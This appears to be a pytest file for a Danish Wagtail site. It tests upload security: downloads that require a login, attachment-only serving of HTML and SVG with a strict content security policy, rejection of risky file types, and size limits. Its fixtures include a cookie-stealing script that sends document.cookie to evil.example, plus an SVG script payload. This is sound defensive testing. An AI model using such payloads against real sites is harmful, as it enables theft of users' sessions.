"""Uploaded files reach readers only through Wagtail's permission-checked view, and nothing a user
uploads is ever rendered by the browser as a page of this site (no HTML or SVG inline)."""

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from wagtail.documents import get_document_model
from wagtail.images import get_image_model

SCRIPT = b"<script>document.location='https://evil.example/?c='+document.cookie</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored_document(name, content):
    """A document as it would be after an upload that slipped past the extension check (for
    example one uploaded before the list of allowed extensions was narrowed)."""
    Document = get_document_model()
    document = Document(title=name)
    document.file.save(name, ContentFile(content), save=False)
    document.save()
    return document


def test_document_needs_a_signed_in_user(client, db):
    document = stored_document("referat.pdf", b"%PDF-1.4 referat")
    response = client.get(document.url)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


@pytest.mark.parametrize("name, content", [("side.html", SCRIPT), ("tegning.svg", SVG), ("x.htm", SCRIPT)])
def test_html_and_svg_documents_are_downloaded_never_shown_inline(client_learner, name, content):
    document = stored_document(name, content)

    response = client_learner.get(document.url)

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Security-Policy"] == "default-src 'none'"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_pdf_is_shown_inline_but_still_sandboxed(client_learner):
    document = stored_document("vejledning.pdf", b"%PDF-1.4 vejledning")

    response = client_learner.get(document.url)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("inline")
    assert response["Content-Security-Policy"] == "default-src 'none'"


def test_media_folder_is_not_served_directly(client_learner, media_root):
    document = stored_document("referat.pdf", b"%PDF-1.4 referat")
    assert (media_root / document.file.name).exists()

    response = client_learner.get(f"/media/{document.file.name}")

    assert response.status_code == 404


@pytest.mark.parametrize(
    "name, content, content_type",
    [("side.html", SCRIPT, "text/html"), ("tegning.svg", SVG, "image/svg+xml")],
)
def test_editor_cannot_upload_html_or_svg_documents(client_editor, name, content, content_type):
    response = client_editor.post(
        "/admin/documents/add/",
        {
            "title": name,
            "file": SimpleUploadedFile(name, content, content_type=content_type),
            "collection": 1,
        },
    )

    assert response.status_code == 200  # the form again, with an error on the file
    assert "file" in response.context["form"].errors
    assert not get_document_model().objects.filter(title=name).exists()


def test_editor_cannot_upload_svg_images(client_editor):
    response = client_editor.post(
        "/admin/images/add/",
        {
            "title": "tegning",
            "file": SimpleUploadedFile("tegning.svg", SVG, content_type="image/svg+xml"),
            "collection": 1,
        },
    )

    assert response.status_code == 200
    assert "file" in response.context["form"].errors
    assert not get_image_model().objects.filter(title="tegning").exists()


def test_the_document_form_says_the_size_limit(client_editor):
    html = client_editor.get("/admin/documents/add/").content.decode().replace("\xa0", " ")
    assert "Højst 20,0 MB" in html or "Højst 20.0 MB" in html


def test_an_oversized_document_is_refused_with_a_message_and_nothing_stored(client_editor, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1024 * 1024
    big = SimpleUploadedFile(
        "stor.pdf", b"%PDF-1.4 " + b"0" * (1024 * 1024 + 1), content_type="application/pdf"
    )
    response = client_editor.post("/admin/documents/add/", {"title": "stor", "file": big, "collection": 1})
    assert response.status_code == 200
    errors = [error.replace("\xa0", " ") for error in response.context["form"].errors["file"]]
    assert any("1,0 MB" in error or "1.0 MB" in error for error in errors), errors
    # In Danish, like the rest of the admin (Wagtail's own Danish catalogue lacks this message).
    assert any(error.startswith("Filen er for stor") for error in errors), errors
    assert not get_document_model().objects.filter(title="stor").exists()


def test_a_document_within_the_limit_is_accepted(client_editor):
    small = SimpleUploadedFile("lille.pdf", b"%PDF-1.4 lille", content_type="application/pdf")
    response = client_editor.post("/admin/documents/add/", {"title": "lille", "file": small, "collection": 1})
    assert response.status_code == 302
    assert get_document_model().objects.filter(title="lille").exists()
